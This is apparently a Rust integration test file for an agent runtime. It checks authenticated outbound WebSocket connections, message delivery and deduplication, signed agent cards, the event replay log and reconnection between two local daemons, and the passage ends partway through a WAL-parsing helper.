/// Completes a peer runtime's side of the WebSocket handshake on `stream` (MSG-51): the
/// client's auth frame verified, answered with `key`'s signature. The socket and the client's
/// proven identity; `None` when the first frame is not a valid auth frame.
async fn authenticated_client(
    stream: tokio::net::TcpStream,
    key: &adf_crypto::SigningKey,
) -> Option<(
    tokio_tungstenite::WebSocketStream<tokio::net::TcpStream>,
    adf_net::handshake::ClientAuth,
)> {
    let server_did = adf_crypto::did_from_public(&key.verifying_key());
    let mut socket = tokio_tungstenite::accept_async(stream).await.unwrap();
    let Some(Ok(WsMessage::Text(text))) = socket.next().await else {
        return None;
    };
    let frame: Value = serde_json::from_str(&text).unwrap();
    let auth = adf_net::handshake::verify_client(&frame, adf_store::time::now_ms()).ok()?;
    let signature = adf_crypto::sign(
        key,
        &adf_net::handshake::server_signed_bytes(&server_did, &auth),
    );
    let answer = adf_net::handshake::success(&auth, Some((server_did, signature)));
    socket
        .send(WsMessage::Text(answer.to_string().into()))
        .await
        .unwrap();
    Some((socket, auth))
}

/// A peer runtime on 127.0.0.1: checks each connection's auth frame, answers with its own
/// signature, sends `message` and reports the client's ack, then hangs up (so the client
/// reconnects). Each accepted handshake's client DID goes to `seen`.
async fn peer_server(
    key: adf_crypto::SigningKey,
    message: Value,
    seen: tokio::sync::mpsc::UnboundedSender<(String, Value)>,
) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let Some((mut socket, auth)) = authenticated_client(stream, &key).await else {
                continue;
            };
            socket
                .send(WsMessage::Text(message.to_string().into()))
                .await
                .unwrap();
            let ack = match socket.next().await {
                Some(Ok(WsMessage::Text(text))) => serde_json::from_str(&text).unwrap(),
                _ => Value::Null,
            };
            let _ = seen.send((auth.did.clone(), ack));
            // Hang up: the client reconnects.
        }
    });
    addr
}

async fn next_seen(
    seen: &mut tokio::sync::mpsc::UnboundedReceiver<(String, Value)>,
) -> (String, Value) {
    tokio::time::timeout(Duration::from_secs(60), seen.recv())
        .await
        .expect("the peer saw a connection")
        .unwrap()
}

async fn with_identity(h: &Harness, path: &std::path::Path) {
    common::provision_identity(h, path);
}

#[tokio::test]
async fn srv_34_outbound_ws_authenticates_delivers_alf_and_reconnects_without_duplicates() {
    let h = Harness::start().await;
    let server_key = client_key();
    let (seen_tx, mut seen) = tokio::sync::mpsc::unbounded_channel();
    let message = alf_message("relay-agent", "over the socket");
    let addr = peer_server(server_key.clone(), message, seen_tx).await;
    let server_did = adf_crypto::did_from_public(&server_key.verifying_key());
    let path = agent_file(
        h.dir.path(),
        "relay",
        &[],
        &[
            ("handle", json!("relay-agent")),
            (
                "ws_connections",
                json!([{
                    "id": "peer", "url": format!("ws://{addr}/agents/peer/mesh"), "did": server_did,
                    "enabled": true, "auth": "required", "reconnect_delay_ms": 20
                }]),
            ),
        ],
    );
    with_identity(&h, &path).await;
    let agent = load(&h, &path).await;
    let agent_did = agent.info().did.unwrap();
    let (did, first_ack) = next_seen(&mut seen).await;
    assert_eq!(did, agent_did, "the client proved the agent's DID");
    assert_eq!(first_ack["type"], "ack", "{first_ack}");
    assert_eq!(first_ack["duplicate"], false);
    // The server hung up; the connection comes back and the same message is not stored twice.
    let (_, second_ack) = next_seen(&mut seen).await;
    assert_eq!(second_ack["type"], "ack", "{second_ack}");
    assert_eq!(second_ack["duplicate"], true);
    let contents = column_texts(&agent, "adf_inbox", "content").await;
    assert_eq!(contents, vec!["over the socket"]);
    h.stop().await;
}

#[tokio::test]
async fn srv_34_an_outbound_ws_whose_server_proves_another_did_is_not_opened() {
    let h = Harness::start().await;
    let (seen_tx, _seen) = tokio::sync::mpsc::unbounded_channel();
    let addr = peer_server(client_key(), alf_message("x", "y"), seen_tx).await;
    let someone_else = adf_crypto::did_from_public(&client_key().verifying_key());
    let path = agent_file(
        h.dir.path(),
        "wary",
        &[],
        &[
            ("handle", json!("wary")),
            (
                "ws_connections",
                json!([{ "id": "peer", "url": format!("ws://{addr}/ws"), "did": someone_else, "enabled": true }]),
            ),
        ],
    );
    with_identity(&h, &path).await;
    let agent = load(&h, &path).await;
    assert!(h.server.daemon.outbound_connections(&agent.id).is_empty());
    let rows = column_texts(&agent, "adf_inbox", "content").await;
    assert!(rows.is_empty());
    h.stop().await;
}

/// A peer that authenticates its client like `peer_server`, then acknowledges every ALF
/// message it receives and reports it.
async fn peer_receiver(
    key: adf_crypto::SigningKey,
    received: tokio::sync::mpsc::UnboundedSender<Value>,
) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let Some((mut socket, _)) = authenticated_client(stream, &key).await else {
                continue;
            };
            while let Some(Ok(frame)) = socket.next().await {
                if let WsMessage::Text(text) = frame {
                    let message: Value = serde_json::from_str(&text).unwrap();
                    let ack =
                        json!({ "type": "ack", "accepted": true, "message_id": message["id"] });
                    socket
                        .send(WsMessage::Text(ack.to_string().into()))
                        .await
                        .unwrap();
                    let _ = received.send(message);
                }
            }
        }
    });
    addr
}

const SENDER: &str = r#"
export async function main(event) {
  const args = JSON.parse((await adf.fs_read({ path: event.data.path })).content);
  let out;
  try { out = await adf.msg_send(args) } catch (e) { out = { code: e.code, message: e.message } }
  await adf.fs_write({ path: "sent/result.json", content: JSON.stringify(out), mode: "write" });
}
"#;

#[tokio::test]
async fn msg_send_prefers_an_open_websocket_to_the_recipient_over_http() {
    let h = Harness::start().await;
    let peer_key = client_key();
    let peer_did = adf_crypto::did_from_public(&peer_key.verifying_key());
    let (received_tx, mut received) = tokio::sync::mpsc::unbounded_channel();
    let addr = peer_receiver(peer_key, received_tx).await;
    let path = agent_file(
        h.dir.path(),
        "talker",
        &[("lib/send.ts", SENDER)],
        &[
            ("handle", json!("talker")),
            (
                "triggers",
                json!({ "on_file_change": { "enabled": true, "targets": [
                    { "scope": "system", "lambda": "lib/send.ts:main", "filter": { "watch": "send/**" } }
                ] } }),
            ),
            (
                "ws_connections",
                json!([{ "id": "peer", "url": format!("ws://{addr}/ws"), "did": peer_did, "enabled": true }]),
            ),
        ],
    );
    with_identity(&h, &path).await;
    let agent = load(&h, &path).await;
    assert_eq!(h.server.daemon.outbound_connections(&agent.id).len(), 1);
    // The inbox URL is a port nobody listens on: only the WebSocket can deliver.
    let args = json!({
        "recipient": peer_did, "address": "http://127.0.0.1:9/agents/peer/inbox",
        "content": "over the open socket",
    });
    h.client
        .call(
            Method::PUT,
            &format!("/agents/{}/files/content?path=send/one.json", agent.id),
            Some(&json!({ "content": args.to_string() })),
        )
        .await
        .unwrap();
    let message = tokio::time::timeout(Duration::from_secs(60), received.recv())
        .await
        .expect("the peer received the message")
        .unwrap();
    assert_eq!(message["to"], peer_did.as_str());
    common::wait_for("the send result", || async {
        !common::paths(&agent, "sent/result.json").await.is_empty()
    })
    .await;
    let statuses = column_texts(&agent, "adf_outbox", "status").await;
    assert_eq!(statuses, vec!["delivered"]);
    h.stop().await;
}

// ---------------------------------------------------------------------------------------------
// The agent card (§11.5, §5.22)

async fn card_with_host(h: &Harness, host: &str) -> Value {
    public_client()
        .get(format!("{}/agents/carded/card", h.server.url()))
        .header("host", host)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap()
}

#[tokio::test]
async fn srv_06_srv_09_srv_10_srv_11_srv_12_the_card_lists_routes_overrides_and_attestations() {
    let h = Harness::start().await;
    let mut listed = route("GET", "/status", "hello");
    listed["on_card"] = json!(true);
    let path = agent_file(
        h.dir.path(),
        "carded",
        &[("lib/routes.ts", ROUTES)],
        &[
            ("handle", json!("carded")),
            (
                "serving.api",
                json!([listed, route("GET", "/hidden", "hello"), { "method": "WS", "path": "/live" }]),
            ),
            (
                "card.endpoints",
                json!({ "inbox": "https://relay.example/carded/inbox" }),
            ),
        ],
    );
    with_identity(&h, &path).await;
    let agent = load(&h, &path).await;
    let port = h.server.addr.port();
    let serve_port = h.server.serve_addr.port();
    let card = card_with_host(&h, &format!("localhost:{port}")).await;
    assert_eq!(
        card["api_routes"],
        json!([{ "method": "GET", "path": "/status" }])
    );
    assert_eq!(
        card["endpoints"]["inbox"],
        "https://relay.example/carded/inbox"
    );
    assert_eq!(
        card["endpoints"]["card"],
        format!("http://localhost:{port}/agents/carded/card"),
        "endpoints follow the address the requester used"
    );
    // WS routes are agent content: on the serving port, under the requester's host name.
    assert_eq!(
        card["endpoints"]["ws"],
        format!("ws://localhost:{serve_port}/agents/carded/live")
    );
    assert_eq!(card["attestations"], json!([]));
    adf_crypto::verify_card(&card).unwrap();
    // Another requester's view: other endpoint URLs, the same signed fields.
    let other = card_with_host(&h, &format!("127.0.0.1:{port}")).await;
    assert_eq!(
        other["endpoints"]["card"],
        format!("http://127.0.0.1:{port}/agents/carded/card")
    );
    let mut rewritten = other.clone();
    rewritten["endpoints"] = card["endpoints"].clone();
    adf_crypto::verify_card(&rewritten).unwrap();

    // Publishing attestations adds the owner-attestation policy and the unexpired ones.
    let mut config = common::stored_config(&h, &agent).await;
    config["card"]["publish_attestations"] = json!(true);
    common::put_config(&h, &agent, &config).await;
    let published = card_with_host(&h, &format!("localhost:{port}")).await;
    assert!(
        published["policies"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["type"] == "owner_attestation"),
        "{published}"
    );
    let stored = column_texts(&agent, "adf_attestations", "subject").await;
    let did = agent.info().did.unwrap();
    assert!(
        stored.contains(&did),
        "provisioning attests the agent: {stored:?}"
    );
    assert_eq!(
        published["attestations"].as_array().unwrap().len(),
        stored.iter().filter(|s| **s == did).count()
    );
    adf_crypto::verify_card(&published).unwrap();
    h.stop().await;
}

// ---------------------------------------------------------------------------------------------
// The umbilical replay log (§5.24)

async fn set_display_state(h: &Harness, id: &str, state: &str) {
    h.client
        .post(
            &format!("/agents/{id}/state"),
            Some(&json!({ "state": state })),
        )
        .await
        .unwrap();
}

#[tokio::test]
async fn cfg_42_the_umbilical_log_replays_recent_events_and_is_not_persisted() {
    let h = Harness::start().await;
    let path = agent_file(
        h.dir.path(),
        "watched",
        &[],
        &[
            ("handle", json!("watched")),
            (
                "umbilical",
                json!({ "log": { "enabled": true, "max_events": 2, "exclude_types": ["file.*"] } }),
            ),
        ],
    );
    let agent = load(&h, &path).await;
    let id = agent.id.clone();
    for state in ["idle", "hibernate", "idle"] {
        set_display_state(&h, &id, state).await;
    }
    h.client
        .call(
            Method::PUT,
            &format!("/agents/{id}/files/content?path=notes.md"),
            Some(&json!({ "content": "x" })),
        )
        .await
        .unwrap();
    let log = h
        .client
        .get(&format!("/agents/{id}/umbilical/events"))
        .await
        .unwrap();
    assert_eq!(log["enabled"], true);
    let events = log["events"].as_array().unwrap();
    assert_eq!(events.len(), 2, "{log}");
    assert!(
        events
            .iter()
            .all(|e| e["event_type"] == "agent.state.changed"),
        "{log}"
    );
    let last_seq = events[1]["seq"].as_u64().unwrap();
    let first_seq = events[0]["seq"].as_u64().unwrap();
    let after = h
        .client
        .get(&format!("/agents/{id}/umbilical/events?since={first_seq}"))
        .await
        .unwrap();
    assert_eq!(after["events"].as_array().unwrap().len(), 1);
    assert_eq!(after["events"][0]["seq"], last_seq);
    // The control API's token guards it like any control route.
    let anonymous = public_client()
        .get(format!("{}/agents/{id}/umbilical/events", h.server.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 401);

    let dir = h.stop().await;
    let h = Harness::start_in(dir, None).await;
    let agent = load(&h, &path).await;
    let log = h
        .client
        .get(&format!("/agents/{}/umbilical/events", agent.id))
        .await
        .unwrap();
    assert!(
        log["events"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["seq"].as_u64().unwrap() > last_seq),
        "nothing from the previous process: {log}"
    );
    h.stop().await;
}

const WS_TOOLS: &str = r#"
export async function main(req) {
  const url = req.query.url;
  const opened = await adf.ws_connect({ url, persist: false });
  const listed = await adf.ws_connections({ direction: "outbound" });
  const inbound = await adf.ws_connections({ direction: "inbound" });
  const sent = await adf.ws_send({ connection_id: opened.connection_id, data: JSON.stringify({ id: "m-1", hello: true }) });
  const closed = await adf.ws_disconnect({ connection_id: opened.connection_id });
  const after = await adf.ws_connections({});
  return { status: 200, body: { opened, listed, inbound, sent, closed, after } };
}
"#;

#[tokio::test]
async fn srv_31_srv_32_srv_33_ws_tools_connect_list_send_and_disconnect_from_code() {
    let h = Harness::start().await;
    let peer_key = client_key();
    let (received_tx, mut received) = tokio::sync::mpsc::unbounded_channel();
    let addr = peer_receiver(peer_key.clone(), received_tx).await;
    let mut config: Vec<(&str, Value)> = vec![
        ("handle", json!("tooly")),
        (
            "serving.api",
            json!([{ "method": "GET", "path": "/run", "lambda": "lib/ws_tools.ts:main" }]),
        ),
    ];
    for tool in ["ws_connect", "ws_connections", "ws_send", "ws_disconnect"] {
        config.push((
            match tool {
                "ws_connect" => "tools.ws_connect.enabled",
                "ws_connections" => "tools.ws_connections.enabled",
                "ws_send" => "tools.ws_send.enabled",
                _ => "tools.ws_disconnect.enabled",
            },
            json!(true),
        ));
    }
    let path = agent_file(
        h.dir.path(),
        "tooly",
        &[("lib/ws_tools.ts", WS_TOOLS)],
        &config,
    );
    with_identity(&h, &path).await;
    let agent = load(&h, &path).await;
    let url = format!("ws://{addr}/ws");
    let got = public_client()
        .get(format!(
            "{}/agents/tooly/run?url={}",
            h.server.serve_url(),
            adf_server::client::encode(&url)
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(got.status(), 200);
    let body: Value = got.json().await.unwrap();
    let id = body["opened"]["connection_id"].as_str().unwrap();
    assert!(id.starts_with("wso_"), "{body}");
    let listed = body["listed"]["connections"].as_array().unwrap();
    assert_eq!(listed.len(), 1, "{body}");
    assert_eq!(listed[0]["direction"], "outbound");
    assert_eq!(listed[0]["url"], url.as_str());
    assert_eq!(
        listed[0]["remote_did"],
        adf_crypto::did_from_public(&peer_key.verifying_key()).as_str()
    );
    assert_eq!(body["inbound"]["connections"], json!([]));
    assert_eq!(body["sent"]["sent"], true);
    assert_eq!(body["closed"]["ok"], true);
    assert_eq!(body["after"]["connections"], json!([]));
    let frame = tokio::time::timeout(Duration::from_secs(60), received.recv())
        .await
        .expect("the peer got the frame")
        .unwrap();
    assert_eq!(frame["hello"], true);
    assert!(h.server.daemon.outbound_connections(&agent.id).is_empty());
    h.stop().await;
}

// ---------------------------------------------------------------------------------------------
// Two daemons on loopback (issue 15): an agent of one holds a WebSocket to an agent of the other

/// Sends what `send/<name>.json` asks for when it is written; the outcome (or the error) goes
/// to `sent/<name>.json`.
const NAMED_SENDER: &str = r#"
export async function main(event) {
  const name = event.data.path.replace('send/', '');
  const args = JSON.parse((await adf.fs_read({ path: event.data.path })).content);
  let out;
  try { out = await adf.msg_send(args) } catch (e) { out = { code: e.code, message: e.message } }
  await adf.fs_write({ path: `sent/${name}`, content: JSON.stringify(out), mode: 'write' });
}
"#;

/// A daemon over `dir` (its `home/` and `agents/`) listening on 127.0.0.1:`port`.
async fn daemon_on(dir: tempfile::TempDir, port: u16, serve_port: u16) -> Harness {
    let home = adf_runtime::home::RuntimeHome::at(dir.path().join("home"));
    let mut front = adf_server::FrontDoor::for_home(&home, None).unwrap();
    front.serve_port = Some(serve_port);
    let token = front.token.clone();
    let server =
        adf_server::RunningServer::start(adf_server::Daemon::new(home), "127.0.0.1", port, front)
            .await
            .unwrap();
    let client = adf_server::client::Client::new(&server.url(), Some(token.clone())).unwrap();
    Harness {
        dir,
        server,
        client,
        token,
    }
}

/// A sender agent of `h` whose lambda runs msg_send, with `extra` config paths.
async fn sender_agent(h: &Harness, handle: &str, extra: &[(&str, Value)]) -> Arc<Agent> {
    let mut config = vec![
        ("handle", json!(handle)),
        (
            "triggers",
            json!({ "on_file_change": { "enabled": true, "targets": [
                { "scope": "system", "lambda": "lib/send.ts:main", "filter": { "watch": "send/**" } }
            ] } }),
        ),
    ];
    config.extend(extra.iter().cloned());
    let path = agent_file(
        h.dir.path(),
        handle,
        &[("lib/send.ts", NAMED_SENDER)],
        &config,
    );
    with_identity(h, &path).await;
    load(h, &path).await
}

/// Asks `agent` (of `h`) to msg_send `args`; what its lambda recorded.
async fn send_through(h: &Harness, agent: &Agent, name: &str, args: Value) -> Value {
    h.client
        .call(
            Method::PUT,
            &format!("/agents/{}/files/content?path=send%2F{name}.json", agent.id),
            Some(&json!({ "content": args.to_string() })),
        )
        .await
        .unwrap();
    let outcome = format!("sent/{name}.json");
    common::wait_for("the send to finish", || async {
        !common::paths(agent, &outcome).await.is_empty()
    })
    .await;
    let text = file_text(agent, &outcome).await.unwrap();
    serde_json::from_str(&text).unwrap()
}

/// Sends each `(agent, name, address, content)` to `recipient` through [`send_through`] and
/// panics unless every one was delivered.
async fn send_all_delivered(
    h: &Harness,
    recipient: &str,
    sends: [(&Arc<Agent>, &str, &str, &str); 2],
) {
    for (agent, name, address, content) in sends {
        let out = send_through(
            h,
            agent,
            name,
            json!({ "recipient": recipient, "address": address, "content": content }),
        )
        .await;
        assert_eq!(out["status"], "delivered", "{name}: {out}");
    }
}

/// The structure of a value: every scalar replaced by its type name, JSON text parsed first.
fn shape(value: &Value) -> Value {
    match value {
        Value::Object(map) => {
            Value::Object(map.iter().map(|(k, v)| (k.clone(), shape(v))).collect())
        }
        Value::Array(items) => Value::Array(items.iter().map(shape).collect()),
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(inner @ (Value::Object(_) | Value::Array(_))) => shape(&inner),
            _ => json!("string"),
        },
        Value::Number(_) => json!("number"),
        Value::Bool(_) => json!("bool"),
        Value::Null => Value::Null,
    }
}

/// The receiver's rows (as `comparable_rows` gives them) whose content is `content`.
async fn rows_with(agent: &Agent, content: &str) -> Vec<Value> {
    comparable_rows(agent)
        .await
        .into_iter()
        .filter(|row| row["content"] == content)
        .collect()
}

/// The one row with `over_ws` has the shape of the one with `over_http`, and the same values
/// wherever the sender and the words do not enter.
async fn assert_like_http(receiver: &Agent, over_ws: &str, over_http: &str) -> Value {
    let ws = rows_with(receiver, over_ws).await;
    let http = rows_with(receiver, over_http).await;
    assert_eq!(ws.len(), 1, "exactly one row for {over_ws}: {ws:?}");
    assert_eq!(http.len(), 1, "exactly one row for {over_http}: {http:?}");
    assert_eq!(
        shape(&ws[0]),
        shape(&http[0]),
        "WS and HTTP rows differ in shape"
    );
    for column in [
        "to",
        "network",
        "content_type",
        "source",
        "source_context",
        "status",
        "owner",
    ] {
        assert_eq!(ws[0][column], http[0][column], "{column}");
    }
    let meta =
        |row: &Value| -> Value { serde_json::from_str(row["meta"].as_str().unwrap()).unwrap() };
    assert_eq!(meta(&ws[0]), meta(&http[0]), "the receiver's stamps differ");
    meta(&ws[0])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn srv_34_msg_50_two_daemons_hold_an_agent_websocket_deliver_signed_and_encrypted_and_reconnect_after_a_restart()
 {
    let first = Harness::start().await;
    let mut second = Harness::start().await;
    let b_path = agent_file(
        second.dir.path(),
        "bee",
        &[],
        &[
            ("handle", json!("bee")),
            ("serving.api", json!([{ "method": "WS", "path": "/mesh" }])),
        ],
    );
    with_identity(&second, &b_path).await;
    let mut bee = load(&second, &b_path).await;
    let bee_did = bee.info().did.unwrap();
    // The WS route is agent content, on the serving port; a restart keeps both ports.
    let control_port = second.server.addr.port();
    let port = second.server.serve_addr.port();
    let ay = sender_agent(
        &first,
        "ay",
        &[(
            "ws_connections",
            json!([{
                "id": "bee", "url": format!("ws://127.0.0.1:{port}/agents/bee/mesh"), "did": bee_did,
                "enabled": true, "auth": "required", "reconnect_delay_ms": 20
            }]),
        )],
    )
    .await;
    // The same messages over HTTP, from an agent of the first daemon without a socket.
    let sea = sender_agent(&first, "sea", &[]).await;
    let connections = first.server.daemon.outbound_connections(&ay.id);
    assert_eq!(connections.len(), 1);
    assert_eq!(connections[0].status, "open");
    assert_eq!(connections[0].remote_did.as_deref(), Some(bee_did.as_str()));
    let first_open = connections[0].connected_at;

    // Nobody listens on the address: only the WebSocket can deliver A's messages.
    let unreachable = "http://127.0.0.1:9/agents/bee/inbox";
    let bee_inbox = format!("{}/agents/bee/inbox", second.server.url());
    let sends = [
        (&ay, "ws1", unreachable, "level 1 over the socket"),
        (&sea, "http1", bee_inbox.as_str(), "level 1 over HTTP"),
    ];
    send_all_delivered(&first, &bee_did, sends).await;
    let meta = assert_like_http(&bee, "level 1 over the socket", "level 1 over HTTP").await;
    assert_eq!(meta["payload_verified"], true, "{meta}");
    assert!(meta.get("payload_encrypted").is_none(), "{meta}");

    // Level 2: both senders encrypt to B's DID.
    for agent in [&ay, &sea] {
        let path = format!("/agents/{}/config", agent.id);
        let mut config = first.client.get(&path).await.unwrap()["config"].clone();
        config["security"]["level"] = json!(2);
        first
            .client
            .call(Method::PUT, &path, Some(&config))
            .await
            .unwrap();
    }
    let sends = [
        (&ay, "ws2", unreachable, "level 2 over the socket"),
        (&sea, "http2", bee_inbox.as_str(), "level 2 over HTTP"),
    ];
    send_all_delivered(&first, &bee_did, sends).await;
    let meta = assert_like_http(&bee, "level 2 over the socket", "level 2 over HTTP").await;
    assert_eq!(meta["payload_encrypted"], true, "{meta}");
    assert_eq!(meta["payload_verified"], true, "{meta}");

    // The second daemon stops: A's connection drops and keeps trying.
    let dir = second.stop().await;
    common::wait_for("A's connection to drop", || async {
        first.server.daemon.outbound_connections(&ay.id)[0].status == "reconnecting"
    })
    .await;
    // It starts again on the same port with the same file: the connection comes back.
    second = daemon_on(dir, control_port, port).await;
    bee = load(&second, &b_path).await;
    common::wait_for("A's connection to come back", || async {
        let now = &first.server.daemon.outbound_connections(&ay.id)[0];
        now.status == "open"
            && now.connected_at > first_open
            && now.remote_did.as_deref() == Some(bee_did.as_str())
    })
    .await;
    let out = send_through(
        &first,
        &ay,
        "after",
        json!({ "recipient": bee_did, "address": unreachable, "content": "after the restart" }),
    )
    .await;
    assert_eq!(out["status"], "delivered", "{out}");
    assert_eq!(rows_with(&bee, "after the restart").await.len(), 1);
    // Nothing sent before the restart came again.
    let mut contents = column_texts(&bee, "adf_inbox", "content").await;
    contents.sort();
    assert_eq!(
        contents,
        vec![
            "after the restart",
            "level 1 over HTTP",
            "level 1 over the socket",
            "level 2 over HTTP",
            "level 2 over the socket",
        ]
    );
    let statuses = column_texts(&ay, "adf_outbox", "status").await;
    assert_eq!(statuses, vec!["delivered"; 3]);
    second.stop().await;
    first.stop().await;
}

// ---------------------------------------------------------------------------------------------
// ws_connect persist and outbound connection lambdas (§5.15)

const WS_PERSIST: &str = r#"
export async function main(req) {
  const kept = await adf.ws_connect({ url: req.query.kept, auth: "none", auto_reconnect: false });
  const passing = await adf.ws_connect({ url: req.query.passing, auth: "none", persist: false });
  const again = await adf.ws_connect({ url: req.query.kept, auth: "none" });
  return { status: 200, body: { kept, passing, again } };
}
"#;

/// Accepts WebSocket connections on 127.0.0.1 and holds them open without a word.
async fn quiet_server() -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut socket = tokio_tungstenite::accept_async(stream).await.unwrap();
                while let Some(Ok(_)) = socket.next().await {}
            });
        }
    });
    addr
}

async fn ws_connections_of(agent: &Agent) -> Value {
    let config = agent.job(|file| file.config()).await.unwrap();
    config["ws_connections"].clone()
}

#[tokio::test]
async fn srv_31_an_ad_hoc_ws_connect_is_saved_to_ws_connections_unless_persist_is_false() {
    let h = Harness::start().await;
    let kept = quiet_server().await;
    let passing = quiet_server().await;
    let path = agent_file(
        h.dir.path(),
        "saver",
        &[("lib/ws_persist.ts", WS_PERSIST)],
        &[
            ("handle", json!("saver")),
            (
                "serving.api",
                json!([{ "method": "GET", "path": "/run", "lambda": "lib/ws_persist.ts:main" }]),
            ),
            ("tools.ws_connect.enabled", json!(true)),
        ],
    );
    let agent = load(&h, &path).await;
    assert_eq!(ws_connections_of(&agent).await, json!([]));
    let kept_url = format!("ws://{kept}/kept");
    let passing_url = format!("ws://{passing}/passing");
    let got = get(
        &h,
        &format!(
            "/agents/saver/run?kept={}&passing={}",
            adf_server::client::encode(&kept_url),
            adf_server::client::encode(&passing_url)
        ),
    )
    .await;
    let body = got.json();
    assert_eq!(got.status, 200, "{body}");
    assert_eq!(body["kept"]["persisted"], true, "{body}");
    assert!(body["passing"].get("persisted").is_none(), "{body}");
    let saved = ws_connections_of(&agent).await;
    let saved = saved.as_array().unwrap();
    assert_eq!(
        saved.len(),
        1,
        "only the persisted connection is saved: {saved:?}"
    );
    assert_eq!(saved[0]["url"], kept_url.as_str());
    assert_eq!(saved[0]["enabled"], true);
    assert_eq!(saved[0]["auth"], "none");
    assert_eq!(saved[0]["auto_reconnect"], false);
    assert_eq!(saved[0]["id"], body["kept"]["id"]);
    // The saved entry is the connection: connecting to its url again reuses both.
    assert_eq!(
        body["again"]["connection_id"],
        body["kept"]["connection_id"]
    );
    let open = h.server.daemon.outbound_connections(&agent.id);
    let by_config = open
        .iter()
        .find(|c| c.config_id.as_deref() == saved[0]["id"].as_str())
        .expect("the connection carries its config id");
    assert_eq!(by_config.url, kept_url);
    assert_eq!(open.len(), 2);
    h.stop().await;
}

async fn next_text(
    socket: &mut tokio_tungstenite::WebSocketStream<tokio::net::TcpStream>,
) -> String {
    loop {
        match socket.next().await {
            Some(Ok(WsMessage::Text(text))) => return text.to_string(),
            Some(Ok(_)) => {}
            other => panic!("the client went away: {other:?}"),
        }
    }
}

async fn next_heard(heard: &mut tokio::sync::mpsc::UnboundedReceiver<String>) -> String {
    tokio::time::timeout(Duration::from_secs(60), heard.recv())
        .await
        .expect("the server heard the client")
        .unwrap()
}

const WS_EVENTS: &str = r#"
export async function onEvent(event) {
  const line = JSON.stringify(event);
  let log = "";
  try { log = (await adf.fs_read({ path: "ws/events.jsonl" })).content } catch (e) {}
  await adf.fs_write({ path: "ws/events.jsonl", content: log + line + "\n", mode: "write" });
  if (event.type === "open") return "hello " + event.connection_id.slice(0, 4);
  if (event.type === "message") return "got " + event.data;
  return null;
}
"#;

#[tokio::test]
async fn srv_35_an_outbound_connection_with_a_lambda_delivers_its_events_to_the_lambda() {
    let h = Harness::start().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (heard_tx, mut heard) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        let (stream, _) = listener.accept().await.unwrap();
        let mut socket = tokio_tungstenite::accept_async(stream).await.unwrap();
        let greeting = next_text(&mut socket).await;
        heard_tx.send(greeting).unwrap();
        socket
            .send(WsMessage::Text("ping from the server".into()))
            .await
            .unwrap();
        let answer = next_text(&mut socket).await;
        heard_tx.send(answer).unwrap();
        socket
            .send(WsMessage::Close(Some(
                tokio_tungstenite::tungstenite::protocol::CloseFrame {
                    code: 4000.into(),
                    reason: "bye".into(),
                },
            )))
            .await
            .unwrap();
        while let Some(Ok(_)) = socket.next().await {}
    });
    let path = agent_file(
        h.dir.path(),
        "listener",
        &[("lib/ws.ts", WS_EVENTS)],
        &[
            ("handle", json!("listener")),
            (
                "ws_connections",
                json!([{
                    "id": "feed", "url": format!("ws://{addr}/feed"), "enabled": true,
                    "auth": "none", "auto_reconnect": false, "lambda": "lib/ws.ts:onEvent"
                }]),
            ),
        ],
    );
    let agent = load(&h, &path).await;
    assert_eq!(next_heard(&mut heard).await, "hello wso_");
    assert_eq!(next_heard(&mut heard).await, "got ping from the server");
    let events_file = "ws/events.jsonl".to_owned();
    let read_events = || async {
        let text = file_text(&agent, &events_file).await;
        text.as_ref()
            .map(|t| {
                t.lines()
                    .map(|line| serde_json::from_str::<Value>(line).unwrap())
                    .collect::<Vec<_>>()
            })
            .unwrap_or_default()
    };
    common::wait_for("the close event", || async {
        read_events().await.iter().any(|e| e["type"] == "close")
    })
    .await;
    let events = read_events().await;
    let kinds: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["open", "message", "close"], "{events:?}");
    let id = events[0]["connection_id"].as_str().unwrap();
    assert!(id.starts_with("wso_"));
    assert!(events.iter().all(|e| e["connection_id"] == id));
    assert!(events.iter().all(|e| e["timestamp"].as_i64().unwrap() > 0));
    assert_eq!(events[1]["data"], "ping from the server");
    assert_eq!(events[2]["code"], 4000);
    assert_eq!(events[2]["reason"], "bye");
    // Without a lambda the frame would have been an ALF delivery: nothing reached the inbox.
    let inbox = column_texts(&agent, "adf_inbox", "id").await;
    assert!(inbox.is_empty(), "{inbox:?}");
    h.stop().await;
}

const WRITING_ROUTES: &str = r#"
export async function keeps(req) {
  await adf.fs_write({ path: "data/kept.txt", content: "kept", mode: "write" });
  return { status: 200, body: "kept" };
}
export async function throws(req) {
  await adf.fs_write({ path: "data/half.txt", content: "half", mode: "write" });
  await adf.emit_event({ type: "custom.before_throw", payload: { n: 1 } });
  throw new Error("after a write");
}
"#;

/// Commit records in the agent's WAL since its last reset: each commit ends with one frame
/// whose header carries the database size (frames of an earlier generation have other
/// salts). The file's own commit count, read the way SQLite reads the WAL.
fn wal_commits(path: &std::path::Path) -> usize {
    let wal = std::fs::read(adf_store::sidecar(path, "-wal")).unwrap_or_default();
    if wal.len() < 32 {
        return 0;
    }
    let word = |at: usize| u32::from_be_bytes(wal[at..at + 4].try_into().unwrap());
    let page_size = word(8) as usize;
    let salts = (word(16), word(20));
    let mut commits = 0;
    let mut at = 32;
    while at + 24 + page_size <= wal.len() {
        if (word(at + 8), word(at + 12)) != salts {
            break;
        }
